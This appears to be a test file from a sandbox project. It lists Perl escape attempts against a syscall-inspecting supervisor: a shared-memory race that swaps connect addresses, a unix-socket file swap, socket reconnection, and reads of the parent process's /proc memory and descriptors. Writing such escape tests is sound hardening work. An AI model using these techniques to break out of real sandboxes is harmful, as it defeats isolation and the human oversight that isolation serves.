import { perlProof, type Escape } from './escape';

const isArm = process.arch === 'arm64';
const READ = isArm ? 67 : 17; // pread64
const CONNECT = isArm ? 203 : 42;
const MMAP = isArm ? 222 : 9;

/** Against whoever looks at a call before it is made: what was looked at is changed, or is not what is used. */
export const SUPERVISOR_ESCAPES: readonly Escape[] = [
  {
    name: 'address changed while the call is looked at',
    by: 'perl',
    // A second process writes one address after the other into shared memory, from a file.
    code: ({ port }) => `use Socket qw(:all);
      my $at = syscall(${MMAP}, 0, 4096, 3, 0x21, -1, 0);
      open(my $f, "+>", "addresses") or exit; binmode $f;
      syswrite $f, pack_sockaddr_in(9, inet_aton("198.51.100.1")) . pack_sockaddr_in(${port}, inet_aton("127.0.0.1"));
      my $child = fork;
      if (!$child) { my $i = 0; while (1) { syscall(${READ}, fileno($f), $at, 16, 16 * ($i ^= 1)) } }
      syscall(${READ}, fileno($f), $at, 16, 0);
      for (1 .. 200) {
        socket(my $s, AF_INET, SOCK_STREAM, 0) or next;
        fcntl($s, 4, 2048);
        syscall(${CONNECT}, fileno($s), $at, 16);
        select(undef, undef, undef, 0.001);
        getpeername($s) or next;
        my ($r, $reply) = ("", ""); vec($r, fileno($s), 1) = 1; select($r, undef, undef, 1);
        if ((sysread($s, $reply, 20) // 0) > 0 && $reply =~ /ESCAPED/) { print "ESCAPED\\n"; last }
      }
      kill 9, $child; unlink "addresses";`,
  },
  {
    name: 'own unix socket whose file is exchanged for one outside',
    by: 'perl',
    code: ({ home, project, homeSocket }) => `use IO::Socket::UNIX;
      my $mine = "${project}/mine.sock"; unlink $mine;
      my $server = IO::Socket::UNIX->new(Local => $mine, Listen => 1);
      rename "${homeSocket}", "${home}/kept.sock" and link("${home}/kept.sock", "$mine.new") and rename "$mine.new", $mine;
      $server->blocking(0);
      my $s = IO::Socket::UNIX->new($mine);
      if ($s && !$server->accept) { print <$s> }
      rename "${home}/kept.sock", "${homeSocket}"; unlink $mine, "$mine.new";`,
  },
  {
    name: 'socket that was connected, disconnected and connected again',
    by: 'perl',
    code: ({ port }) =>
      perlProof(
        '$reply =~ /ESCAPED/',
        `socket(my $l, AF_INET, SOCK_STREAM, 0); bind($l, pack_sockaddr_in(0, INADDR_LOOPBACK)); listen($l, 1);
         socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, getsockname($l)) or exit;
         connect($s, "\\0" x 16); connect($s, pack_sockaddr_in(${port}, INADDR_LOOPBACK)) or exit; my $reply = <$s>;`,
      ),
  },
  {
    name: 'memory of the parent',
    by: 'perl',
    code: () => perlProof('open(my $f, "+<", "/proc/" . getppid() . "/mem")'),
  },
  {
    name: 'descriptors of the parent',
    by: 'perl',
    code: () => perlProof('defined readlink("/proc/" . getppid() . "/fd/0")'),
  },
];
